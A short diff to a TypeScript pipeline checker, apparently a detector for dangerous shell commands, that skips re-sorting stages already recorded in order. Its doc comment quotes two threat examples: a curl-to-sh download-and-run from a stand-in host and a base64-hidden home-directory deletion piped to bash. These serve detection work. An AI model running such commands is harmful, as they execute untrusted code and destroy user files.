@@ -27,7 +27,8 @@ export function decodes(argv: readonly string[]): boolean {
  * Threat: `curl -s http://x/i.sh | sh`, `echo cm0gLXJmIH4= | base64 -d | bash`.
  */
 export function checkPipeline(stages: Stage[], f: Findings): void {
-  const ordered = [...stages].sort((a, b) => a.stage - b.stage);
+  // Stages are recorded in order; only a list out of order is copied and sorted.
+  const ordered = stages.every((s, i) => i === 0 || stages[i - 1]!.stage <= s.stage) ? stages : [...stages].sort((a, b) => a.stage - b.stage);
   for (const s of ordered) {
     if (s.stage === 0) continue;
     const runsStdin = s.shellReadsStdin || readsProgramFromStdin(s.cmd.argv);
